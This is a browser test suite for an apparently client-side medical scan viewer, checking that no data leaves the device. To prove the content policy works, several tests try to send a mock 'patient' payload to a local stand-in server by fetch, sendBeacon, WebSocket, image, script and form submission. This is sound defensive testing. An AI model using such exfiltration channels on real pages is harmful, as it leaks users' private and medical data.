import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { expect, it } from 'vitest';

import { visit } from './browser.js';
import { CHEST, chestGz } from './scans.js';
import { curve, drop, openSample, openChest, runBones } from './steps.js';
import { builtSite, serve } from './site.js';
import { onSite } from './suite.js';

/** Somebody else's server, which would love to hear something. */
async function listen() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const { port } = server.address() as AddressInfo;
  const stop = (): Promise<unknown> => new Promise((stopped) => server.close(stopped));
  return { url: `http://127.0.0.1:${port}`, heard, stop };
}

onSite('nothing leaves', true, (stand) => {
  it('asks the network for nothing once the page is there', async () => {
    const { page, leave } = await visit(stand());
    await page.getByText(/^\d+ threads?$/).waitFor();
    const { site } = stand();
    // What the page fetches while it is idle; on a busy machine that takes its time.
    let afterLoad = 0;
    while (afterLoad < site.requests.length) {
      afterLoad = site.requests.length;
      await page.waitForTimeout(2000);
    }
    await openSample(page);
    await runBones(page);
    await drop(page, [{ name: CHEST.name, bytes: await chestGz() }]);
    await page.getByRole('banner').getByText(CHEST.name).waitFor();
    await runBones(page);
    await curve(page).press('ArrowRight');
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: /^Download mask/ }).click();
    await saved;
    // What draws the sample comes from the site itself, with the first wish for it; nothing else does.
    const later = site.requests.slice(afterLoad);
    expect(later.length).toBeLessThanOrEqual(1);
    for (const request of later) expect(request).toMatch(/^GET .*\/hounsfield_bg-.*\.wasm$/);
    expect(site.requests.filter((request) => !request.startsWith('GET '))).toEqual([]);
    await page.getByText('0 bytes have left this device').waitFor();
    await leave();
  });

  it.each([true, false])('the worker is confined, too (isolated: %s)', async (isolated) => {
    const { url, heard, stop } = await listen();
    const site = await serve(await builtSite(), isolated);
    const { page, complaints, leave } = await visit({ browser: stand().browser, site });
    await page.getByText(/^\d+ threads?$/).waitFor();
    // The first is the engine's; the others, its threads, sleep in wasm and answer nobody.
    const worker = page.workers()[0];
    if (!worker) throw new Error('the engine has no worker');
    const outcome = await worker.evaluate(
      (address) => fetch(address, { method: 'POST', body: 'x' }).then(String, () => 'refused'),
      url,
    );
    expect(outcome).toBe('refused');
    expect(heard).toEqual([]);
    complaints.length = 0; // The browser complained about the attempt, as it should.
    await leave();
    await site.stop();
    await stop();
  });

  it('the browser refuses every way out, and the page says so', async () => {
    const { url, heard, stop } = await listen();
    const { page, complaints, leave } = await visit(stand());
    await openChest(page);
    const attempts = await page.evaluate(async (base) => {
      const patient = 'x'.repeat(1000);
      const refused: string[] = [];
      await fetch(`${base}/fetch`, { method: 'POST', body: patient }).catch(() =>
        refused.push('fetch'),
      );
      navigator.sendBeacon(`${base}/beacon`, patient);
      try {
        const socket = new WebSocket(`${base.replace('http', 'ws')}/socket`);
        await new Promise((ended) => socket.addEventListener('error', ended));
        refused.push('socket');
      } catch {
        refused.push('socket');
      }
      const image = new Image();
      image.src = `${base}/image?${patient}`;
      await new Promise((ended) => image.addEventListener('error', ended));
      refused.push('image');
      const script = document.createElement('script');
      script.src = `${base}/script.js`;
      document.head.append(script);
      await new Promise((ended) => script.addEventListener('error', ended));
      refused.push('script');
      const form = document.createElement('form');
      form.method = 'post';
      // Into a frame of its own, so that the page is not seen as going away.
      const frame = document.createElement('iframe');
      frame.name = 'elsewhere';
      form.target = frame.name;
      form.action = `${base}/form`;
      document.body.append(frame, form);
      form.submit();
      return refused;
    }, url);
    expect(attempts).toEqual(['fetch', 'socket', 'image', 'script']);
    await page.getByRole('button', { name: '0 bytes have left this device' }).click();
    const blocked = page
      .getByText('Attempts the browser blocked')
      .locator('xpath=following::dd[1]');
    await expect.poll(async () => Number(await blocked.innerText())).toBeGreaterThanOrEqual(6);
    const contacted = page.getByText('Requests to other sites').locator('xpath=following::dd[1]');
    expect(await contacted.innerText()).toBe('0');
    expect(heard).toEqual([]);
    complaints.length = 0; // The browser complained about each attempt, as it should.
    await leave();
    await stop();
  });
});
